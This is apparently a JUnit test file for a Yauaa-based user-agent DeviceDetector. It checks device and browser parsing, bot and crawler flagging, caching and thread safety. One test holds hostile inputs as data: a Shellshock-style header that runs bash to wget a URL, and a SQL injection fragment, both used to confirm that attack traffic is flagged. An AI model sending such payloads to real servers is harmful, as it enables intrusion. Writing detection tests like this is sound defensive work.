package io.sightline.enrich;

import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Random;
import java.util.concurrent.Callable;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** Every expected value below is what Yauaa 8.1.1 was seen to answer; a Yauaa upgrade may move some. */
class DeviceDetectorTest {
    private static final String WINDOWS_CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
            + "(KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36";
    private static final DeviceFacts WINDOWS_CHROME_FACTS =
            new DeviceFacts("Windows", null, "desktop", "Desktop", "Chrome", "124", false);
    private static final String GOOGLEBOT_DESKTOP = "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; "
            + "Googlebot/2.1; +http://www.google.com/bot.html) Chrome/124.0.6367.155 Safari/537.36";
    private static final String GOOGLEBOT_SMARTPHONE = "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) "
            + "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.155 Mobile Safari/537.36 "
            + "(compatible; Googlebot/2.1; +http://www.google.com/bot.html)";

    // Building Yauaa's analyzer takes seconds, so the class shares one.
    private static DeviceDetector detector;

    @BeforeAll
    static void buildDetector() {
        detector = new DeviceDetector(1_000, List.of("MyLoadTester"));
    }

    @Test
    void reads_ios_app_user_agent_with_device_code() {
        assertThat(detector.detect("MyApp/2.3 (iPhone14,2; iOS 17.4; Scale/3.00)"))
                .isEqualTo(new DeviceFacts("iOS", "17.4", "phone", "Apple iPhone", "MyApp", "2.3", false));
    }

    @Test
    void reads_ios_version_from_the_darwin_version_of_a_cfnetwork_user_agent() {
        // Yauaa cannot tell iPhone from iPad here, hence "mobile" and a generic model.
        assertThat(detector.detect("MyApp/2.3 CFNetwork/1494.0.7 Darwin/23.4.0"))
                .isEqualTo(new DeviceFacts("iOS", "17.4", "mobile", "Apple iOS Device", "MyApp", "2.3", false));
    }

    @Test
    void keeps_alamofire_app_although_yauaa_reads_its_bundle_id_as_an_information_url() {
        assertThat(detector.detect("MyApp/1.0 (com.example.app; build:42; iOS 17.4.1) Alamofire/5.8.0"))
                .isEqualTo(new DeviceFacts("iOS", "17.4.1", "mobile", "Apple iOS Device", "MyApp", "1.0", false));
    }

    @Test
    void reads_ipad_app_user_agent_but_not_its_ipados_version() {
        assertThat(detector.detect("MyApp/2.3 (iPad13,4; iPadOS 17.4; Scale/2.00)"))
                .isEqualTo(new DeviceFacts("iOS", null, "tablet", "Apple iPad", "MyApp", "2.3", false));
    }

    @Test
    void reads_android_dalvik_user_agent() {
        assertThat(detector.detect("Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/UQ1A.240205.004)"))
                .isEqualTo(new DeviceFacts("Android", "14", "mobile", "Google Pixel 8", null, null, false));
    }

    @Test
    void keeps_okhttp_from_android_apps_without_claiming_a_cloud_robot_device() {
        assertThat(detector.detect("okhttp/4.12.0"))
                .isEqualTo(new DeviceFacts(null, null, null, null, "Okhttp", "4.12.0", false));
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "curl/8.5.0",
            "Java-http-client/17.0.15",
            "python-requests/2.31.0",
            "Apache-HttpClient/4.5.14 (Java/17.0.1)",
            "Go-http-client/1.1",
            "axios/1.6.8",
            "Dart/3.3 (dart:io)"})
    void keeps_plain_http_client_libraries_used_by_apps_and_server_relays(String userAgent) {
        DeviceFacts facts = detector.detect(userAgent);

        assertThat(facts.bot()).isFalse();
        assertThat(facts.deviceType()).isNull();
        assertThat(facts.os()).isNull();
    }

    @Test
    void reads_android_chrome_with_major_version_only() {
        assertThat(detector.detect("Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 "
                + "(KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36"))
                .isEqualTo(new DeviceFacts("Android", "14", "phone", "Google Pixel 8", "Chrome", "124", false));
    }

    @Test
    void reads_samsung_internet() {
        assertThat(detector.detect("Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S918B) AppleWebKit/537.36 "
                + "(KHTML, like Gecko) SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36"))
                .isEqualTo(new DeviceFacts("Android", "14", "phone", "Samsung SM-S918B", "SamsungBrowser", "24",
                        false));
    }

    @Test
    void reads_iphone_safari() {
        assertThat(detector.detect("Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 "
                + "(KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1"))
                .isEqualTo(new DeviceFacts("iOS", "17.4", "phone", "Apple iPhone", "Safari", "17", false));
    }

    @Test
    void reads_ipad_safari_as_tablet() {
        assertThat(detector.detect("Mozilla/5.0 (iPad; CPU OS 17_4 like Mac OS X) AppleWebKit/605.1.15 "
                + "(KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1"))
                .isEqualTo(new DeviceFacts("iOS", "17.4", "tablet", "Apple iPad", "Safari", "17", false));
    }

    @Test
    void reads_windows_browsers_and_names_the_os_windows() {
        assertThat(detector.detect(WINDOWS_CHROME)).isEqualTo(WINDOWS_CHROME_FACTS);
        assertThat(detector.detect("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 "
                + "Firefox/125.0"))
                .isEqualTo(new DeviceFacts("Windows", ">=10", "desktop", "Desktop", "Firefox", "125", false));
        assertThat(detector.detect(WINDOWS_CHROME + " Edg/124.0.2478.51"))
                .isEqualTo(new DeviceFacts("Windows", ">=10", "desktop", "Desktop", "Edge", "124", false));
    }

    @Test
    void reads_mac_browsers_and_names_the_os_macos() {
        // Browsers freeze the macOS version at 10.15.7, which Yauaa reports as a floor.
        assertThat(detector.detect("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 "
                + "(KHTML, like Gecko) Version/17.4 Safari/605.1.15"))
                .isEqualTo(new DeviceFacts("macOS", ">=10.15.7", "desktop", "Apple Macintosh", "Safari", "17", false));
        assertThat(detector.detect("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 "
                + "(KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"))
                .isEqualTo(new DeviceFacts("macOS", ">=10.15.7", "desktop", "Apple Macintosh", "Chrome", "124", false));
    }

    @Test
    void reads_linux_browsers() {
        assertThat(detector.detect("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
                + "Chrome/124.0.0.0 Safari/537.36"))
                .isEqualTo(new DeviceFacts("Linux", null, "desktop", "Linux Desktop", "Chrome", "124", false));
        assertThat(detector.detect("Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"))
                .isEqualTo(new DeviceFacts("Ubuntu", null, "desktop", "Linux Desktop", "Firefox", "125", false));
    }

    @Test
    void maps_meta_quest_browser_to_xr() {
        assertThat(detector.detect("Mozilla/5.0 (X11; Linux x86_64; Quest 3) AppleWebKit/537.36 (KHTML, like Gecko) "
                + "OculusBrowser/32.0.0.3.2 SamsungBrowser/4.0 Chrome/122.0.6261.120 VR Safari/537.36"))
                .isEqualTo(new DeviceFacts("Linux", null, "xr", "Oculus Quest 3", "OculusBrowser", "32", false));
    }

    @Test
    void maps_consoles_and_smart_tvs_to_short_words() {
        assertThat(detector.detect("Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox One) AppleWebKit/537.36 "
                + "(KHTML, like Gecko) Chrome/70.0.3538.102 Safari/537.36 Edge/18.19041").deviceType())
                .isEqualTo("console");
        assertThat(detector.detect("Mozilla/5.0 (SMART-TV; Linux; Tizen 7.0) AppleWebKit/537.36 (KHTML, like Gecko) "
                + "SamsungBrowser/5.0 Chrome/94.0.4606.31 TV Safari/537.36").deviceType())
                .isEqualTo("tv");
    }

    @Test
    void drops_googlebot_and_keeps_its_facts_as_yauaa_reports_them() {
        DeviceFacts googlebot = new DeviceFacts("Google Cloud", null, "robot", "Google", "Googlebot", "2.1", true);

        assertThat(detector.detect(GOOGLEBOT_DESKTOP)).isEqualTo(googlebot);
        assertThat(detector.detect(GOOGLEBOT_SMARTPHONE)).isEqualTo(googlebot);
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
            "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
            "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
            "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
            "Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"})
    void drops_crawlers_that_name_an_information_url(String userAgent) {
        DeviceFacts facts = detector.detect(userAgent);

        assertThat(facts.bot()).isTrue();
        assertThat(facts.deviceType()).isEqualTo("robot");
    }

    @Test
    void drops_headless_chrome_although_yauaa_sees_a_desktop() {
        assertThat(detector.detect("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
                + "HeadlessChrome/120.0.6099.109 Safari/537.36"))
                .isEqualTo(new DeviceFacts("Linux", null, "desktop", "Linux Desktop", "Chrome", "120.0.6099.109",
                        true));
    }

    @Test
    void drops_sqlmap_as_hacker_with_no_facts() {
        assertThat(detector.detect("sqlmap/1.7#stable (https://sqlmap.org)"))
                .isEqualTo(new DeviceFacts(null, null, null, null, null, null, true));
    }

    @Test
    void keeps_bare_word_agents_of_app_and_server_http_stacks_that_yauaa_calls_hacker() {
        for (String agent : List.of("node", "undici", "Ktor client", "MyApp")) {
            assertThat(detector.detect(agent)).as(agent)
                    .isEqualTo(new DeviceFacts(null, null, null, null, null, null, false));
        }
    }

    @Test
    void drops_attack_tools_and_injection_attempts() {
        assertThat(detector.detect("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)").bot()).isTrue();
        assertThat(detector.detect("() { :; }; /bin/bash -c \"wget http://example.com/x\"").bot()).isTrue();
        assertThat(detector.detect("Mozilla/5.0 (Windows NT 10.0) ' OR 1=1 --").bot()).isTrue();
    }

    @Test
    void drops_user_agents_containing_a_configured_pattern_in_any_case() {
        assertThat(detector.detect(WINDOWS_CHROME + " MyLoadTester/1.0").bot()).isTrue();
        assertThat(detector.detect("myloadtester-k6/0.50").bot()).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "   "})
    void treats_an_empty_user_agent_as_unknown_not_as_a_hacker(String userAgent) {
        assertThat(detector.detect(userAgent)).isEqualTo(DeviceFacts.UNKNOWN);
    }

    @Test
    void treats_a_missing_user_agent_as_unknown() {
        assertThat(detector.detect(null)).isEqualTo(DeviceFacts.UNKNOWN);
    }

    @Test
    void reads_a_10_kb_user_agent_by_its_start_instead_of_calling_it_an_overflow_attack() {
        assertThat(detector.detect(WINDOWS_CHROME + " " + "x".repeat(10_000))).isEqualTo(WINDOWS_CHROME_FACTS);
    }

    @Test
    void cuts_long_values_to_64_characters() {
        String name = "SuperLongApplicationNameThatGoesOnAndOnForQuiteSomeTimeBeyondSixtyFourCharacters";

        DeviceFacts facts = detector.detect(name + "/2.3 (iPhone14,2; iOS 17.4; Scale/3.00)");

        assertThat(facts.browser()).isEqualTo(name.substring(0, 64));
    }

    @Test
    void rejects_a_blank_extra_pattern_because_it_would_match_every_event() {
        assertThatThrownBy(() -> new DeviceDetector(10, List.of(" ")))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("blank");
    }

    @Test
    void rejects_a_cache_size_below_one() {
        assertThatThrownBy(() -> new DeviceDetector(0, List.of()))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("cache size");
    }

    @Test
    void gives_eight_threads_the_same_answers_as_one_even_while_its_cache_keeps_evicting() throws Exception {
        List<String> userAgents = List.of(WINDOWS_CHROME, GOOGLEBOT_DESKTOP, GOOGLEBOT_SMARTPHONE,
                "MyApp/2.3 (iPhone14,2; iOS 17.4; Scale/3.00)", "MyApp/2.3 CFNetwork/1494.0.7 Darwin/23.4.0",
                "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/UQ1A.240205.004)", "okhttp/4.12.0",
                "curl/8.5.0", "sqlmap/1.7", "node", "", WINDOWS_CHROME + " MyLoadTester/1.0",
                "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
                "Mozilla/5.0 (iPad; CPU OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                        + "Version/17.4 Mobile/15E148 Safari/604.1");
        List<DeviceFacts> expected = userAgents.stream().map(detector::detect).toList();
        // A cache of 4 for 14 User-Agents: most calls parse, and rotations race with reads.
        DeviceDetector small = new DeviceDetector(4, List.of("MyLoadTester"));
        int threads = 8;
        CountDownLatch start = new CountDownLatch(1);
        ExecutorService pool = Executors.newFixedThreadPool(threads);
        try {
            List<Future<List<String>>> results = new ArrayList<>();
            for (int t = 0; t < threads; t++) {
                long seed = t;
                results.add(pool.submit(mismatches(small, userAgents, expected, new Random(seed), start)));
            }
            start.countDown();
            for (Future<List<String>> result : results) {
                assertThat(result.get(60, TimeUnit.SECONDS)).isEmpty();
            }
        } finally {
            pool.shutdownNow();
        }
    }

    @Test
    void resolve_answers_a_known_user_agent_at_once_and_a_new_one_on_the_parser_thread() {
        detector.detect(WINDOWS_CHROME);
        assertThat(detector.resolve(WINDOWS_CHROME)).isCompletedWithValue(WINDOWS_CHROME_FACTS);

        String fresh = WINDOWS_CHROME.replace("Chrome/", "Chrome/1") + " " + System.nanoTime();
        DeviceFacts facts = detector.resolve(fresh).join();
        assertThat(facts.os()).isEqualTo("Windows");
        assertThat(detector.resolve(fresh)).isCompletedWithValue(facts);
    }

    @Test
    void requests_for_the_same_new_user_agent_share_one_parse() {
        DeviceDetector fresh = new DeviceDetector(100, List.of());
        try {
            var first = fresh.resolve("MyApp/9.1 (iPhone15,3; iOS 18.1; Scale/3.00)");
            var second = fresh.resolve("MyApp/9.1 (iPhone15,3; iOS 18.1; Scale/3.00)");
            assertThat(second).isSameAs(first);
            assertThat(first.join().osVersion()).isEqualTo("18.1");
            var third = fresh.resolve("MyApp/9.1 (iPhone15,3; iOS 18.1; Scale/3.00)");
            assertThat(third).isSameAs(first);
            // The second joined the parse (shared), unless the parse had already finished (cached).
            assertThat(fresh.parsed()).isEqualTo(1);
            assertThat(fresh.shared() + fresh.cached()).isEqualTo(2);
            assertThat(fresh.cached()).isGreaterThanOrEqualTo(1);
            assertThat(fresh.unparsed()).isZero();
        } finally {
            fresh.close();
        }
    }

    @Test
    void a_flood_of_new_user_agents_goes_on_unparsed_instead_of_queueing_without_bound() {
        DeviceDetector flooded = new DeviceDetector(10_000, List.of());
        try {
            List<java.util.concurrent.CompletableFuture<DeviceFacts>> answers = new ArrayList<>();
            for (int i = 0; i < 3 * DeviceDetector.PARSE_QUEUE; i++) {
                answers.add(flooded.resolve("Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like"
                        + " Gecko) Chrome/131.0." + i + ".1 Mobile Safari/537.36"));
            }
            // Submitting takes microseconds and a parse about half a millisecond: the queue fills.
            assertThat(flooded.unparsed()).isGreaterThan(0);
            long immediateUnknown = answers.stream()
                    .filter(a -> a.isDone() && a.join().equals(DeviceFacts.UNKNOWN)).count();
            assertThat(immediateUnknown).isEqualTo(flooded.unparsed());
            // Every queued one is still parsed and answered.
            java.util.concurrent.CompletableFuture.allOf(answers.toArray(new java.util.concurrent.CompletableFuture[0]))
                    .orTimeout(60, TimeUnit.SECONDS).join();
            assertThat(answers.stream().filter(a -> "Android".equals(a.join().os())).count())
                    .isEqualTo(answers.size() - flooded.unparsed());
            assertThat(flooded.parsed() + flooded.unparsed()).isEqualTo(answers.size());
        } finally {
            flooded.close();
        }
    }

    private static Callable<List<String>> mismatches(DeviceDetector detector, List<String> userAgents,
                                                     List<DeviceFacts> expected, Random random, CountDownLatch start) {
        return () -> {
            start.await();
            List<Integer> order = new ArrayList<>();
            for (int i = 0; i < userAgents.size(); i++) {
                order.add(i);
            }
            List<String> wrong = new ArrayList<>();
            for (int round = 0; round < 10; round++) {
                Collections.shuffle(order, random);
                for (int i : order) {
                    DeviceFacts facts = detector.detect(userAgents.get(i));
                    if (!facts.equals(expected.get(i))) {
                        wrong.add(userAgents.get(i) + " -> " + facts);
                    }
                }
            }
            return wrong;
        };
    }
}
